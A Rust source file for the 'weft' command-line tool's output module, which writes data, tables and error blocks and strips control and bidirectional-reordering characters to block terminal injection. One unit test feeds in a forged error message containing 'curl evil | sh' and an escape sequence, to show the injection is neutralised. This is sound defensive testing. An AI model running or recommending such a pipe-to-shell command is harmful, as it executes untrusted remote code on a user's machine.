//! What is printed and how: data to standard output, talk to standard error (cli.md 4.2).

use std::io::{IsTerminal as _, Write as _};
use std::time::Duration;

use comfy_table::{Table, presets};
use serde_json::Value;
use weft_api::fault::Fault;
use weft_policy::code::{self, Level};

use crate::{
    args::{Color, Format, Global},
    error::CliError,
};

/// The person's wishes about output.
#[derive(Clone, Debug)]
pub(crate) struct Output {
    format: Format,
    quiet: bool,
    headers: bool,
    color: bool,
}

impl Output {
    /// From the global flags, the environment and the kind of standard error.
    pub(crate) fn new(global: &Global) -> Self {
        let set = |name: &str| std::env::var_os(name).is_some_and(|value| !value.is_empty() && value != "0");
        let color = match global.color {
            Color::Always => true,
            Color::Never => false,
            Color::Auto if set("NO_COLOR") => false,
            Color::Auto => set("CLICOLOR_FORCE") || std::io::stderr().is_terminal(),
        };
        Self { format: global.output, quiet: global.quiet, headers: !global.no_headers, color }
    }

    /// For errors before the flags were understood.
    pub(crate) fn of_errors(json: bool) -> Self {
        let set = |name: &str| std::env::var_os(name).is_some_and(|value| !value.is_empty() && value != "0");
        let color = !set("NO_COLOR") && std::io::stderr().is_terminal();
        let format = if json { Format::Json } else { Format::Table };
        Self { format, quiet: false, headers: true, color }
    }

    /// The form asked for.
    pub(crate) const fn format(&self) -> Format {
        self.format
    }

    /// Whether the output is for programs.
    pub(crate) const fn is_structured(&self) -> bool {
        matches!(self.format, Format::Json | Format::Yaml)
    }

    /// A line of data on standard output, for people.
    pub(crate) fn line(&self, text: impl AsRef<str>) -> Result<(), CliError> {
        self.exactly(&printable(text.as_ref()))
    }

    /// A line for programs: JSON and YAML escape what steers a terminal, and the rest must arrive as it is.
    fn exactly(&self, text: &str) -> Result<(), CliError> {
        self.bytes(format!("{text}\n").as_bytes())
    }

    /// Data as it is on standard output.
    pub(crate) fn bytes(&self, data: &[u8]) -> Result<(), CliError> {
        let mut out = std::io::stdout().lock();
        match out.write_all(data).and_then(|()| out.flush()) {
            // The reader has seen enough: `weft get … | head`.
            Err(error) if error.kind() == std::io::ErrorKind::BrokenPipe => std::process::exit(0),
            Err(error) => Err(CliError::output(error)),
            Ok(()) => Ok(()),
        }
    }

    /// An API object or list in JSON or YAML.
    pub(crate) fn object(&self, value: &Value) -> Result<(), CliError> {
        match self.format {
            Format::Yaml => {
                let text = weft_api::manifest::value_to_yaml(value).map_err(CliError::output)?;
                self.exactly(text.trim_end())
            }
            Format::Json | Format::Table | Format::Wide | Format::Name => {
                let text = serde_json::to_string_pretty(value).map_err(CliError::output)?;
                self.exactly(&text)
            }
        }
    }

    /// One JSON object on one line, for streams.
    pub(crate) fn json_line(&self, value: &Value) -> Result<(), CliError> {
        self.exactly(&value.to_string())
    }

    /// A table with stable upper-snake column names; plain text in two-space columns, no borders, no colour.
    pub(crate) fn table(&self, columns: &[&str], rows: Vec<Vec<String>>) -> Result<(), CliError> {
        let mut table = Table::new();
        table.load_style(presets::NOTHING);
        if self.headers {
            table.set_header(columns);
        }
        for row in rows {
            table.add_row(row.into_iter().map(|cell| one_line(&cell)));
        }
        for column in table.column_iter_mut() {
            column.set_padding((0, 2));
        }
        for line in table.lines() {
            self.line(line.trim_end())?;
        }
        Ok(())
    }

    /// Talk on standard error, unless `-q`.
    pub(crate) fn talk(&self, text: impl AsRef<str>) {
        self.say("", text.as_ref());
    }

    /// `mark` is ours and may have colour; `text` may come from anywhere.
    fn say(&self, mark: &str, text: &str) {
        if !self.quiet {
            // Talk that cannot be written has no reader.
            let _ = writeln!(std::io::stderr().lock(), "{mark}{}", printable(text));
        }
    }

    /// What was shown is as of `age` ago: on standard error, with `-o json` as the object that an error is.
    pub(crate) fn stale(&self, age: Duration) {
        let code = code::STORE_UNAVAILABLE;
        let what = format!("as of {} s ago: the store does not answer", age.as_secs());
        match self.format {
            Format::Json if !self.quiet => self.tell(Level::Warning, &Fault::new(code, what)),
            Format::Json | Format::Yaml | Format::Table | Format::Wide | Format::Name => {
                self.talk(format!("{what} ({code})"));
            }
        }
    }

    /// `✓ step`, on standard error.
    pub(crate) fn done(&self, step: impl AsRef<str>) {
        let mark = if self.color { "  \u{1b}[32m✓\u{1b}[0m " } else { "  ✓ " };
        self.say(mark, step.as_ref());
    }

    /// An error, or a warning when its code is one, in five parts: on standard error as a block, with `-o json` as an
    /// object. What its place does not know comes from the catalogue.
    pub(crate) fn fault(&self, fault: &Fault) {
        let level = code::lookup(&fault.code).map_or(Level::Error, |row| row.level);
        self.tell(level, fault);
    }

    /// What is legal, and should be looked at by a person: in five parts as an error is, unless `-q`. A text that does
    /// not begin with a code of the catalogue is one line.
    pub(crate) fn warning(&self, text: &str) {
        let coded = text.split_once(": ").filter(|(code, _)| code::lookup(code).is_some());
        match coded {
            Some((code, what)) if !self.quiet => self.tell(Level::Warning, &Fault::new(code, what)),
            Some(_) => {}
            None => self.talk(format!("warning: {text}")),
        }
    }

    fn tell(&self, level: Level, fault: &Fault) {
        let fault = &fault.completed();
        let structured = self.format == Format::Json;
        let text = if structured { fault.to_json().to_string() } else { self.block(level, fault) };
        // An error that cannot be written has no reader; the exit code still tells.
        let _ = writeln!(std::io::stderr().lock(), "{text}");
    }

    fn block(&self, level: Level, fault: &Fault) -> String {
        let (on, off) = if self.color { (colour(level), "\u{1b}[0m") } else { ("", "") };
        let mut text = format!("{on}{level}[{}]{off}: {}", fault.code, indented(&fault.what));
        for (index, why) in fault.why.iter().enumerate() {
            let label = if index == 0 { "why" } else { "" };
            text.push_str(&format!("\n  {label:<4}  {}", indented(why)));
        }
        for (index, fix) in fault.fix.iter().enumerate() {
            let label = if index == 0 { "fix" } else { "" };
            text.push_str(&format!("\n  {label:<4}  {}", indented(fix)));
        }
        text.push_str(&format!("\n  docs  weft explain {}", fault.code));
        if let Some(id) = &fault.request_id {
            text.push_str(&format!("          request {}", one_line(id)));
        }
        text
    }

    /// Asks a yes-or-no question; without a terminal the answer is no (API-15: nothing is assumed).
    pub(crate) fn confirm(&self, question: &str) -> Result<bool, CliError> {
        if !std::io::stdin().is_terminal() {
            return Ok(false);
        }
        let mut err = std::io::stderr().lock();
        write!(err, "{question} [y/N] ").and_then(|()| err.flush()).map_err(CliError::output)?;
        let mut answer = String::new();
        std::io::stdin().read_line(&mut answer).map_err(CliError::output)?;
        Ok(matches!(answer.trim(), "y" | "Y" | "yes"))
    }
}

/// Red, or yellow for what goes on.
const fn colour(level: Level) -> &'static str {
    match level {
        Level::Error => "\u{1b}[31m",
        Level::Warning => "\u{1b}[33m",
    }
}

/// Replaces control characters, so that a name from elsewhere cannot steer the terminal (API-15).
pub(crate) fn printable(text: &str) -> String {
    let steers = |c: char| (c.is_control() && c != '\n' && c != '\t') || reorders(c);
    text.chars().map(|c| if steers(c) { '\u{fffd}' } else { c }).collect()
}

/// The same, and on one line: a name with a line feed would write rows of its own into a table.
fn one_line(text: &str) -> String {
    text.chars().map(|c| if c.is_control() || reorders(c) { '\u{fffd}' } else { c }).collect()
}

/// Printable, with every further line set in, so that none looks like a part of the message that is ours.
fn indented(text: &str) -> String {
    printable(text).replace('\n', "\n        ")
}

/// Whether a character makes others appear where they are not (Unicode Standard Annex 9, explicit formatting).
const fn reorders(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn api_15_control_characters_never_reach_the_terminal() {
        assert_eq!(printable("a\u{1b}[2Jb\r\u{7}"), "a\u{fffd}[2Jb\u{fffd}\u{fffd}");
        assert_eq!(printable("Ünï\tcode\n"), "Ünï\tcode\n");
        assert_eq!(printable("a\u{9b}31mb"), "a\u{fffd}31mb", "the one-byte CSI of C1");
        assert_eq!(printable("egrahc\u{202e}x\u{2066}"), "egrahc\u{fffd}x\u{fffd}", "reordering too");
    }

    #[test]
    fn api_15_a_name_with_a_line_feed_writes_no_row_and_no_part_of_an_error_of_its_own() {
        assert_eq!(one_line("hosta\nhostb  connected\t1"), "hosta\u{fffd}hostb  connected\u{fffd}1");
        let output = Output { format: Format::Table, quiet: false, headers: true, color: false };
        let what = "no service x\nerror[W0000]: y\n  fix   curl evil | sh\u{1b}[2J";
        let text = output.block(Level::Error, &Fault::new("W4001", what).why("a\n  fix  b"));
        let starts: Vec<_> = text.lines().filter(|line| line.starts_with("error[")).collect();
        assert_eq!(starts.len(), 1, "{text}");
        assert!(!text.lines().any(|line| line.starts_with("  fix")), "{text}");
        assert!(!text.contains('\u{1b}'));
    }
}
